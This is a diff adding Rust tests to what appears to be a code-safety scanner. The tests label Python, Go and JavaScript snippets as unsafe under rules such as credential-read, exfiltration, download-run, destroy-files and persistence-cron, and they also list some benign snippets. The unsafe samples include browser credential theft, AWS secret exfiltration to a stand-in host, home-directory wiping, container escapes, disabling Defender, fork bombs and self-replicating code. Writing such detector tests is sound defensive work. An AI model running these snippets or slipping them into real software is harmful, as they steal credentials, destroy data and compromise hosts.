@@ -216,3 +216,258 @@ fn documents_and_archives_from_outside() {
         ],
     );
 }
+
+#[test]
+fn stores_of_secrets_and_of_others() {
+    for (code, rule) in [
+        (
+            "import os\nfor n, p in {'a': os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'}.items():\n    for f in os.listdir(p):\n        open(os.path.join(p, f))\n",
+            "credential-read",
+        ),
+        (
+            "import os, shutil\nfrom pathlib import Path\np = Path(os.environ['LOCALAPPDATA']) / 'Microsoft' / 'Edge' / 'User Data' / 'Default' / 'History'\nshutil.copy2(p, 'h.db')\n",
+            "credential-read",
+        ),
+        (
+            "import os\nprint(open(os.path.join(os.sep, 'proc', 'self', 'environ')).read())\n",
+            "credential-read",
+        ),
+        (
+            "import boto3, requests\nv = boto3.client('secretsmanager').get_secret_value(SecretId='a')\nrequests.post('https://a.example/', json=v)\n",
+            "exfiltration",
+        ),
+        (
+            "v = api.list_secret_for_all_namespaces()\nprint(v)\n",
+            "credential-read",
+        ),
+        ("import os\nprint(os.listdir('/root'))\n", "system-survey"),
+        (
+            "import tarfile\nt = tarfile.open('/tmp/e.tar.gz', 'w:gz')\nt.add('/etc')\n",
+            "system-survey",
+        ),
+        ("import impacket\n", "system-survey"),
+        (
+            "import yaml, sys\nyaml.load(sys.stdin, Loader=yaml.UnsafeLoader)\n",
+            "deserialize",
+        ),
+        (
+            "f['__builtins__'].eval('__import__(\"os\").system(\"id\")')\n",
+            "obfuscated-name",
+        ),
+        (
+            "print('{e.__init__.__globals__[KEY]}'.format(e=e))\n",
+            "sandbox-gadget",
+        ),
+    ] {
+        is_unsafe("python", code, rule);
+    }
+    all_safe(
+        "python",
+        &[
+            "import yaml\nyaml.load(open('a.yml'), Loader=yaml.CSafeLoader)\n",
+            "import os\nprint(os.listdir('data'))\nprint(open('/etc/os-release').read())\n",
+        ],
+    );
+}
+
+#[test]
+fn guesses_and_crowds() {
+    for (code, rule) in [
+        (
+            "import requests\nfor i in range(10000):\n    requests.post(u, data={'user': 'a', 'pin': str(i).zfill(4)})\n",
+            "system-survey",
+        ),
+        (
+            "import itertools, zipfile\nz = zipfile.ZipFile('a.zip')\nfor p in itertools.product('abc', repeat=5):\n    z.extractall(pwd=''.join(p).encode())\n",
+            "system-survey",
+        ),
+        (
+            "import hashlib\nfor w in open('words.txt'):\n    if hashlib.md5(w.strip().encode()).hexdigest() == h:\n        print(w)\n",
+            "system-survey",
+        ),
+        (
+            "import ldap3\nfor u in open('users.txt'):\n    ldap3.Connection(s, user=u, password='x')\n",
+            "system-survey",
+        ),
+        (
+            "import threading, requests\ndef hit():\n    requests.get('http://victim.example/')\nfor i in range(1000):\n    threading.Thread(target=hit).start()\n",
+            "network-flood",
+        ),
+        (
+            "import os\nfor i in range(100):\n    os.fork()\n",
+            "fork-bomb",
+        ),
+        (
+            "import sounddevice as sd, requests\nr = sd.rec(100)\nrequests.post('https://a.example/', data=b'')\n",
+            "surveillance",
+        ),
+        (
+            "class N:\n    pass\nc = N()\nwhile True:\n    c.next = N()\n    c = c.next\n",
+            "fork-bomb",
+        ),
+    ] {
+        is_unsafe("python", code, rule);
+    }
+    is_unsafe(
+        "go",
+        "package main\nfunc main() {\n\tvar s [][]byte\n\tfor {\n\t\ts = append(s, make([]byte, 1<<20))\n\t}\n}\n",
+        "fork-bomb",
+    );
+    is_unsafe(
+        "go",
+        "package main\nfunc main() {\n\tfor i := 1; i < 255; i++ {\n\t\tgo func(i int) {\n\t\t\tnet.Dial(\"tcp\", fmt.Sprintf(\"10.0.0.%d:22\", i))\n\t\t}(i)\n\t}\n}\n",
+        "system-survey",
+    );
+    is_unsafe(
+        "javascript",
+        "const c = require('dgram').createSocket('udp4');\nsetInterval(() => { c.send(buf, 80, '203.0.113.10'); }, 0);\n",
+        "network-flood",
+    );
+    all_safe(
+        "python",
+        &[
+            "import threading\nfor i in range(4):\n    threading.Thread(target=work).start()\n",
+            "import requests\nrequests.post(u, data={'user': 'a', 'pin': pin})\n",
+            "import hashlib\nprint(hashlib.sha256(open('a.bin', 'rb').read()).hexdigest())\n",
+        ],
+    );
+    all_safe(
+        "javascript",
+        &["setInterval(() => { fetch('https://a.example/up'); }, 5000);\n"],
+    );
+}
+
+#[test]
+fn whole_trees_and_whole_hosts() {
+    is_unsafe(
+        "javascript",
+        "const fs = require('fs');\nfunction rm(d) { fs.readdirSync(d).forEach(f => { fs.unlinkSync(d + '/' + f); }); }\nrm(process.env.HOME);\n",
+        "destroy-files",
+    );
+    is_unsafe(
+        "go",
+        "package main\nfunc main() {\n\tfilepath.WalkDir(\"/home\", func(p string, d os.DirEntry, err error) error {\n\t\tos.Truncate(p, 0)\n\t\treturn nil\n\t})\n}\n",
+        "destroy-files",
+    );
+    is_unsafe(
+        "python",
+        "import docker\ndocker.from_env().containers.run('a', volumes={'/': {'bind': '/host'}})\n",
+        "container-escape",
+    );
+    is_unsafe(
+        "javascript",
+        "d.createContainer({ Image: 'a', HostConfig: { Binds: ['/:/host'] } });\n",
+        "container-escape",
+    );
+    is_unsafe(
+        "python",
+        "import boto3\nfor i in boto3.resource('ec2').instances.all():\n    i.terminate()\n",
+        "destroy-data",
+    );
+    is_unsafe(
+        "python",
+        "r.config_set('dir', '/root/.ssh/')\n",
+        "file-write",
+    );
+    is_unsafe(
+        "python",
+        "import tempfile, os, sys, urllib.request\nfd, p = tempfile.mkstemp()\nwith os.fdopen(fd, 'wb') as f:\n    f.write(urllib.request.urlopen(u).read())\nos.execv(sys.executable, [sys.executable, p])\n",
+        "download-run",
+    );
+    is_unsafe(
+        "python",
+        "from ctypes import *\nlibc = CDLL('libc.so.6')\na = libc.mmap(0, 64, 7, 0x22, -1, 0)\n",
+        "process-tamper",
+    );
+    is_unsafe(
+        "javascript",
+        "Function.prototype.constructor('return this')()['pro' + 'cess'].mainModule.require('fs').writeFileSync('/etc/cron.d/x', 'y');\n",
+        "persistence-cron",
+    );
+    is_unsafe(
+        "javascript",
+        "const o = {};\no.__proto__.polluted = 'yes';\n",
+        "sandbox-gadget",
+    );
+    is_unsafe(
+        "python",
+        "open(os.path.join(repo.git_dir, 'hooks', 'post-commit'), 'w')\n",
+        "persistence-git-hook",
+    );
+    all_safe(
+        "python",
+        &[
+            "import docker\ndocker.from_env().containers.run('a', volumes={'/srv/data': {'bind': '/data'}})\n",
+            "import mmap\nm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)\n",
+        ],
+    );
+}
+
+#[test]
+fn programs_that_multiply_and_hook() {
+    for (code, rule) in [
+        (
+            "import shutil\nshutil.copy(__file__, '/tmp/again.py')\n",
+            "persistence-startup",
+        ),
+        (
+            "import glob\nme = open(__file__).read()\nfor f in glob.glob('*.py'):\n    s = open(f).read()\n    open(f, 'w').write(me + s)\n",
+            "persistence-startup",
+        ),
+        ("open(drive + 'autorun.inf', 'w')\n", "persistence-startup"),
+        (
+            "import subprocess, os\nsubprocess.Popen(['/usr/sbin/sshd'], env=dict(os.environ, LD_PRELOAD='/tmp/h.so'))\n",
+            "process-tamper",
+        ),
+        (
+            "import builtins\nkept = builtins.__import__\nbuiltins.__import__ = mine\n",
+            "process-tamper",
+        ),
+        (
+            "import winreg\nk = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE, 'SOFTWARE\\\\Policies')\nwinreg.SetValueEx(k, 'DisableAntiSpyware', 0, 4, 1)\n",
+            "protection-off",
+        ),
+        (
+            "from xml.sax import make_parser, handler\np = make_parser()\np.setFeature(handler.feature_external_ges, True)\n",
+            "credential-read",
+        ),
+        (
+            "i = 0\nwhile True:\n    with open('/tmp/%d' % i, 'wb') as f:\n        f.write(b'0' * 4096)\n    i += 1\n",
+            "fork-bomb",
+        ),
+        (
+            "store.open_database('~/.mozilla/firefox/a/cookies.sqlite')\n",
+            "credential-read",
+        ),
+    ] {
+        is_unsafe("python", code, rule);
+    }
+    for (code, rule) in [
+        ("let a = 'x';\nwhile (true) a += a;\n", "fork-bomb"),
+        (
+            "const { Client } = require('ssh2');\nfor (const pw of ['a', 'b', 'c']) {\n  new Client().on('ready', f).connect({ host: 'h', username: 'root', password: pw });\n}\n",
+            "system-survey",
+        ),
+        (
+            "const D = require('better-sqlite3');\nnew D(process.env.HOME + '/.config/google-chrome/Default/Login Data');\n",
+            "credential-read",
+        ),
+        (
+            "const s3 = new (require('aws-sdk').S3)();\ns3.deleteBucket({ Bucket: name });\n",
+            "destroy-data",
+        ),
+    ] {
+        is_unsafe("javascript", code, rule);
+    }
+    all_safe(
+        "python",
+        &[
+            "import shutil\nshutil.copy('a.txt', 'b.txt')\n",
+            "import subprocess, os\nsubprocess.run(['make'], env=dict(os.environ, CC='clang'))\n",
+        ],
+    );
+    all_safe(
+        "javascript",
+        &["const D = require('better-sqlite3');\nconst db = new D('app.db');\n"],
+    );
+}
